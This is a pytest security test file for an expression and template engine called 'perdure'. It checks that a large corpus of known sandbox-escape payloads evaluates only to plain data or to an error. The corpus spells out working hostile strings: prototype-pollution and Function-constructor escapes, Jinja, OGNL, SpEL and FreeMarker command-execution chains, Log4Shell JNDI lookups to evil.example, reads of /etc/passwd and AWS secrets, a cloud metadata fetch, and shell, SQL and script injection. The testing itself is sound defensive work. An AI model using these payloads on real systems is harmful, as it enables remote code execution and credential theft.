"""Payloads that are known to break out of other languages. Here each of them is data, or a fault; there is no outside."""

from __future__ import annotations

import json
from time import thread_time
from typing import Literal

import pytest

from perdure.errors import EvaluationError, InvalidExpression
from perdure.expressions.language import compile_value
from perdure.expressions.protocol import UNDEFINED
from perdure.expressions.ready import ready
from perdure.expressions.templates import value_of
from perdure.model.values import Json

SCOPE: dict[str, Json] = {
    "a": 1,
    "x": "text",
    "s": "text",
    "arr": [1, "two", None],
    "o": {"k": "v", "n": {"m": 1}},
    "input": {"name": "Ann", "list": [1, 2]},
    "steps": {"one": {"output": {"data": 5}}},
    "now": 1_794_736_800_000,
}
ABROAD = ("<function", "<class", "<module", "<built-in", "object at 0x", "root:x:", "[native code]", "/usr/", "uid=")
"""How something from outside would show, rendered as text."""

PROTOTYPES = [
    "constructor",
    "constructor.constructor('return process')()",
    "''.constructor.constructor('return process')()",
    "[].constructor.constructor('return this')()",
    "({}).constructor.constructor('return globalThis')()",
    "(1).constructor.constructor('alert(1)')()",
    "x.constructor",
    "x['constructor']",
    "x['const' + 'ructor']",
    "x[['constructor']]",
    "x[`constructor`]",
    "o.constructor.prototype",
    "o.__proto__",
    "o['__proto__']['polluted']",
    "o.__proto__.polluted = 1",
    "({}).__proto__.__proto__",
    "{__proto__: {polluted: 1}}.polluted",
    "{['__proto__']: {polluted: 1}}.polluted",
    "{...{__proto__: {polluted: 1}}}",
    'JSON.parse(\'{"__proto__": {"polluted": 1}}\').polluted',
    "Object.fromEntries([['__proto__', {polluted: 1}]]).polluted",
    "o.__defineGetter__('k', () => 1)",
    "o.__defineSetter__('k', x => x)",
    "o.__lookupGetter__('k')",
    "o.__lookupSetter__('__proto__')",
    "o.hasOwnProperty('k')",
    "o.valueOf()",
    "o.isPrototypeOf(o)",
    "o.propertyIsEnumerable('k')",
    "o.toLocaleString()",
    "{get k() { return process }}.k",
    "{set k(v) { process }}",
    "{valueOf: () => 1} + 1",
    "{toString: () => 'x'} + ''",
    "{valueOf() { return 1 }} + 1",
    "{toString: 'x'} + ''",
    "{[Symbol.toPrimitive]: 1}",
    "{then: 1}",
    "x.sub.constructor('return process')()",
    "arr.map.constructor('return process')()",
    "arr.map(x => x.constructor)",
    "arr.map(x => x['constructor']['constructor'])",
    "arr.reduce((f, k) => f[k], {})['constructor']",
    "['constructor', 'constructor'].reduce((f, k) => f[k], 'x')",
    "arr.filter.call(arr, x => x)",
    "arr.map.bind(arr)",
    "arr.map.apply(arr, [])",
    "(() => {}).constructor('return process')()",
    "(x => x).constructor",
    "arr.find(x => x).constructor.constructor('return 1')()",
    "Object.getPrototypeOf(o)",
    "Object.setPrototypeOf(o, null)",
    "Object.getOwnPropertyNames(o)",
    "Object.getOwnPropertyDescriptor(o, 'k')",
    "Object.defineProperty(o, 'k', {value: 2})",
    "Object.assign(o, {k: 2})",
    "Object.create(null)",
    "Object.constructor",
    "Object.prototype",
    "Object['keys'](o)",
    "Object.keys.constructor('return 1')()",
    "Math.constructor",
    "Math.max.constructor('return 1')()",
    "JSON.constructor.constructor('return process')()",
    "JSON.stringify(o, (k, v) => process)",
    "JSON.parse('[1]', (k, v) => process)",
    "Array.prototype.push",
    "Array.from({length: 1e9})",
    "Array(1e9).fill(0)",
    "Number.prototype.toString",
    "String.fromCharCode(97)",
    "String.raw`a`",
    "Reflect.ownKeys(o)",
    "Reflect.construct(Function, ['return 1'])",
    "new Proxy({}, {})",
    "Symbol.iterator",
    "x.at.caller",
    "arguments.callee",
    "arguments[0]",
]
GLOBALS = [
    "eval('1 + 1')",
    "eval`1`",
    "(0, eval)('1')",
    "Function('return process')()",
    "new Function('return process')()",
    "globalThis",
    "globalThis.process.env",
    "window.location",
    "self",
    "global.process.mainModule.require('child_process').execSync('id')",
    "process.env.HOME",
    "process.binding('spawn_sync')",
    "process.exit(1)",
    "require('fs').readFileSync('/etc/passwd')",
    "module.constructor._load('child_process')",
    "import('fs')",
    "import.meta.url",
    "new.target",
    "this.constructor.constructor('return process')()",
    "this",
    "super.x",
    "fetch('http://169.254.169.254/')",
    "XMLHttpRequest",
    "setTimeout(() => 1, 0)",
    "setTimeout('alert(1)')",
    "alert(1)",
    "console.log(1)",
    "Date.now()",
    "new Date()",
    "Math.random()",
    "crypto.randomUUID()",
    "Promise.resolve(1)",
    "WebAssembly.Module",
    "SharedArrayBuffer",
    "document.cookie",
    "__dirname",
    "__filename",
    "debugger",
    "Deno.env.toObject()",
    "Bun.spawn(['id'])",
]
SYNTAX = [
    "async () => 1",
    "async function f() {}",
    "function* g() { yield 1 }",
    "arr.map(function* () { yield 1 })",
    "await import('fs')",
    "yield 1",
    "label: 1",
    "label: for (;;) break label",
    "with (o) k",
    "while (true) {}",
    "for (;;) {}",
    "do {} while (1)",
    "if (1) 2",
    "try { x } catch (e) { e }",
    "throw 1",
    "var y = 1",
    "let y = 1",
    "class A extends Function {}",
    "(class { static { process } })",
    "{static: 1}",
    "x`${process}`",
    "`${constructor}`",
    "`${`${`${x}`}`}`",
    "`${x}${'${'}`",
    "`\\${process}`",
    "x?.constructor?.constructor?.('return 1')?.()",
    "x?.['constructor']",
    "o?.[arr.map(x => 'constructor')[0]]",
    "delete o.k",
    "void process",
    "typeof process",
    "o.k = 1",
    "[o.k] = [1]",
    "({k: o.k} = {k: 1})",
    "o.k ??= 1",
    "a++, o",
    "x instanceof Function",
    "'constructor' in o",
    "'__proto__' in {}",
    "#priv in o",
    "o.#priv",
    "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    "'aaaa'.match(/(a|a)*b/)",
    "x.replace(/x/g, process)",
    "x.search('(a+)+$')",
    "x.split(/(a+)+$/)",
    "\\u0063onstructor",
    "x.\\u0063onstructor",
    "x.\\u{63}onstructor.constructor('return 1')()",
    "x['\\u0063onstructor']",
    "x['\\x63onstructor']",
    "{\\u005f_proto__: 1}",
    "pr\\u006fcess",
    "c\u043enstructor",
    "x.constructor\u200b",
    "\ufeffx.constructor",
    "x\u2028.constructor",
    "x\u01c0upper",
    "x.\u01c0upper()",
    "x\x00.constructor",
    "x /* */ . /* */ constructor",
    "x <!-- constructor",
    "x --> constructor",
    "1; process",
    "1) || (process",
    "1}; process; {",
    "x => process",
    "(x => process)()",
    "arr.map(process => process.env)",
    "arr.map(x => eval(x))",
    "arr.sort((x, y) => process)",
    "arr.map((x, y = process) => y)",
    "arr.map(({constructor}) => constructor)",
    "{constructor}",
    "{...x.constructor}",
    "[...arr.constructor]",
    "arr.concat(x => x)",
    "arr.concat(x => x)[3]",
    "arr.concat(x => x)[3].constructor",
    "arr.concat(x => x).map(f => f.__globals__)",
    "arr.concat(x => x).map(f => f.__code__)",
    "arr.concat(x => x)[3](1)",
    "arr.concat(x => x)|last",
    "arr.concat(x => x)|string",
    "arr.concat(x => x)|unique",
    "[1].reduce((f, y) => f, z => z).__closure__",
    "{f: arr.concat(x => x)}",
    "`${arr.concat(x => x)}`",
    "Boolean(x => x) && x",
    "'a'.repeat(1e9)",
    "'a'.padEnd(1e12)",
    "9 ** 9 ** 9 ** 9",
    "'9'.repeat(100000)|number",
    "JSON.parse('['.repeat(100000))",
    "x|filter('constructor')",
    "arr|filter('process')",
    "arr|filter('constructor.constructor(\"return 1\")()')",
    "arr|map('__class__')",
    "arr|map('constructor.constructor')",
    "[x]|map('__class__.__mro__')",
    "[o]|filterBy('__class__', 1)",
    "[o]|find('__proto__', null)",
    "[o]|sort('__class__')",
    "[o]|formatList('{{__class__}} {{item.__class__}}')",
    "[o]|formatList('{{self}}{{process}}{{constructor}}')",
    "x|constructor",
    "x|__class__",
    "x|toString",
    "x|eval",
    "x|attr('__class__')",
]
OTHER_LANGUAGES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{=7*7}}",
    "*{7*7}",
    "@(7*7)",
    "{7*7}",
    "[[${7*7}]]",
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "''.__class__.__base__.__subclasses__()",
    "{{config}}",
    "{{config.items()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ request.application.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ x|attr('__class__') }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% import os %}{{ os.system('id') }}",
    "{# comment #}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}",
    "{{ ['id']|filter('system') }}",
    "{{ ['id', 0]|sort('passthru')|join }}",
    "{{ constructor.constructor('return process')() }}",
    '{{#with "s" as |string|}}{{/with}}',
    "{{#each this}}{{@key}}{{/each}}",
    "{{!x}}",
    "{{^x}}no{{/x}}",
    "{{>partial}}",
    "{{&x}}",
    "{{{x}}}",
    "%{#a=(new java.lang.ProcessBuilder('id')).start()}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.System).getenv()}",
    "new java.lang.ProcessBuilder('id').start()",
    "''.getClass().forName('java.lang.Runtime')",
    "${''.getClass().forName('java.lang.Runtime')}",
    "${applicationScope}",
    "${pageContext.request}",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ ex('id') }",
    "${'freemarker.template.utility.Execute'?new()('id')}",
    "${.data_model}",
    "#set($x = 7 * 7)$x",
    "$class.inspect('java.lang.Runtime').type",
    "#set($e='e')$e.getClass().forName('java.lang.Runtime')",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<% require 'open3' %>",
    "#{`id`}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:java.version}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${dns:address|evil.example}",
    "${url:UTF-8:http://evil.example}",
    "{0.__class__.__init__.__globals__}",
    "{x.__class__}",
    "{0!r:{1}}",
    "%(x)s %s %n",
    "%x%x%x%x",
    "f'{x.__class__}'",
    "__import__('os').system('id')",
    "().__class__.__bases__[0].__subclasses__()",
    "[c for c in ().__class__.__base__.__subclasses__()]",
    "lambda: 1",
    "(lambda: 1).__globals__",
    "open('/etc/passwd').read()",
    "exec('import os')",
    "compile('1', '', 'eval')",
    "getattr(x, '__class__')",
    "globals()",
    "locals()",
    "vars()",
    "dir(x)",
    "type(x)",
    "x.__class__",
    "x.__class__.__mro__",
    "x.__init__.__globals__",
    "x.__dict__",
    "x.__doc__",
    "x.__module__",
    "x.__reduce__()",
    "x.format(x)",
    "x.encode()",
    "x.upper()",
    "x.join(arr)",
    "x.translate({})",
    "x.__add__('y')",
    "arr.append(1)",
    "arr.pop()",
    "arr.__len__()",
    "arr.__class__",
    "arr.sort.__self__",
    "o.items()",
    "o.keys()",
    "o.get('k')",
    "o.update({})",
    "o.__getitem__('k')",
    "a.__class__",
    "a.real",
    "a.numerator",
    "a.bit_length()",
    "a.denominator.__class__",
    "now.__class__",
    "now.real",
    "UNDEFINED",
    "Undefined.UNDEFINED",
    "undefined.name",
    "undefined.value",
    "undefined.__class__",
    "undefined._value_",
    "null.__class__",
    "true.__class__",
    "NaN.hex()",
    "(1.5).hex()",
    "(1.5).as_integer_ratio()",
    "{{ '{{' }}{{ x }}",
    "${ '${' }${ x }",
    "\\{{ x }}",
    "\\${ x }",
    "{{ {{ x }} }}",
    "${ ${ x } }",
    "{{ '}}' + x }}",
    "${ '}' + x }",
    "{{ `${x}}}` }}",
    "{{x",
    "${x",
    "x}}",
    "{{}}",
    "${}",
    "{{ secrets }}",
    "{{ secrets.KEY.length }}",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "x | id",
    "&& id",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    '<!--#exec cmd="id"-->',
    "<?php system('id'); ?>",
    "../../etc/passwd",
    "file:///etc/passwd",
    "\x00",
    "\ud800",
    "\u202ex.constructor",
]
SOON = 0.050
PAYLOADS = [*PROTOTYPES, *GLOBALS, *SYNTAX, *OTHER_LANGUAGES]
NAMES = (
    *("constructor", "__proto__", "prototype", "__defineGetter__", "__defineSetter__", "__lookupGetter__", "valueOf"),
    *("__class__", "__mro__", "__init__", "__globals__", "__dict__", "__doc__", "__module__", "__subclasses__"),
    *("__builtins__", "__code__", "__closure__", "__self__", "__func__", "__name__", "__reduce__", "__getattribute__"),
    *("hasOwnProperty", "toString", "map", "filter", "append", "items", "format", "real", "name", "value", "_value_"),
)


def plain(value: Json) -> None:
    """JSON all the way down, and nothing that only looks like it: no subclass, no function, no object."""
    if value is None or value is UNDEFINED:
        return
    assert type(value) in (bool, int, float, str, list, dict), type(value)
    if type(value) is list:
        for item in value:
            assert item is not UNDEFINED
            plain(item)
    elif type(value) is dict:
        for key, item in value.items():
            assert type(key) is str
            assert item is not UNDEFINED
            plain(item)


def harmless(value: Json) -> None:
    plain(value)
    shown = "" if value is UNDEFINED else json.dumps(value, ensure_ascii=False)
    assert not any(trace in shown for trace in ABROAD), shown


def attempt(payload: str) -> None:
    try:
        found = ready(payload).run(SCOPE)
    except (InvalidExpression, EvaluationError):
        return
    harmless(found)


def attempt_template(payload: str, form: Literal["{{", "${"]) -> None:
    for document in (payload, {payload: payload}, [payload, {"k": payload}], f"before {payload} after"):
        try:
            compiled = compile_value(value_of(document, form))
            found, rendered = compiled.evaluate(SCOPE), compiled.render(SCOPE)
        except (InvalidExpression, EvaluationError):
            continue
        harmless(found)
        harmless(rendered.value)


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_payload_is_data_or_a_fault(payload: str) -> None:
    before = json.dumps(SCOPE)
    attempt(payload)
    attempt(f"({payload})")
    attempt(f"arr.map(y => {payload})")
    attempt(f"[{payload}]")
    attempt(f"o[{payload}]")
    attempt(f"{{k: {payload}}}")
    attempt(f"`${{{payload}}}`")
    assert json.dumps(SCOPE) == before


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_payload_in_a_template_is_data_or_a_fault(payload: str) -> None:
    before = json.dumps(SCOPE)
    attempt_template(payload, "{{")
    attempt_template(payload, "${")
    attempt_template(f"{{{{ {payload} }}}}", "{{")
    attempt_template(f"${{ {payload} }}", "${")
    assert json.dumps(SCOPE) == before


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_payload_in_an_inner_expression_is_data_or_a_fault(payload: str) -> None:
    literal = json.dumps(payload)
    for pipe in ("filter", "map", "formatList", "find", "sort", "upper", "parseJSON"):
        attempt(f"[o, x, arr]|{pipe}({literal})")
    attempt(f"o[{literal}]")
    attempt(f"x[{literal}]")
    attempt(f"{literal}|string")


@pytest.mark.parametrize("payload", [text for text in PAYLOADS if "{{" not in text and "${" not in text], ids=ascii)
def test_text_without_a_template_in_it_stays_as_it_is(payload: str) -> None:
    for form in ("{{", "${"):
        found = compile_value(value_of(payload, form)).evaluate(SCOPE)
        assert found == payload


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "root", ["x", "a", "arr", "o", "input", "now", "nowMs", "null", "undefined", "true", "1.5", "[]"]
)
def test_a_name_from_outside_is_undefined_on_plain_data(root: str, name: str) -> None:
    assert ready(f"({root}).{name}").run(SCOPE) is UNDEFINED or (root == "input" and name == "name")
    assert ready(f"({root})['{name}']").run(SCOPE) is UNDEFINED or (root == "input" and name == "name")
    assert ready(f"({root})?.{name}?.{name}").run(SCOPE) is UNDEFINED
    assert ready(f"[{root}]|map('{name}.{name}')").run(SCOPE) == []
    assert ready(f"'{name}' in o").run(SCOPE) is False


@pytest.mark.parametrize(
    "name", [*NAMES, "process", "globalThis", "window", "self", "os", "sys", "builtins", "perdure"]
)
def test_a_name_that_is_not_in_the_scope_is_undefined(name: str) -> None:
    assert ready(name).run(SCOPE) is UNDEFINED
    assert ready(f"{name}.x.y").run(SCOPE) is UNDEFINED


def test_a_key_named_like_a_prototype_is_a_plain_key() -> None:
    found = ready("{['__proto__']: {polluted: 1}, constructor: 2}").run(SCOPE)
    assert found == {"__proto__": {"polluted": 1}, "constructor": 2}
    assert ready("{['__proto__']: {polluted: 1}}.polluted").run(SCOPE) is UNDEFINED
    assert ready("o.polluted").run(SCOPE) is UNDEFINED


def test_the_corpus_is_large() -> None:
    assert len(PAYLOADS) >= 150
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_the_corpus_takes_no_time() -> None:
    def seconds(payload: str) -> float:
        begin = thread_time()
        attempt(payload)
        return thread_time() - begin

    for payload in PAYLOADS:
        assert seconds(payload) < SOON or min(seconds(payload) for _ in range(3)) < SOON, payload
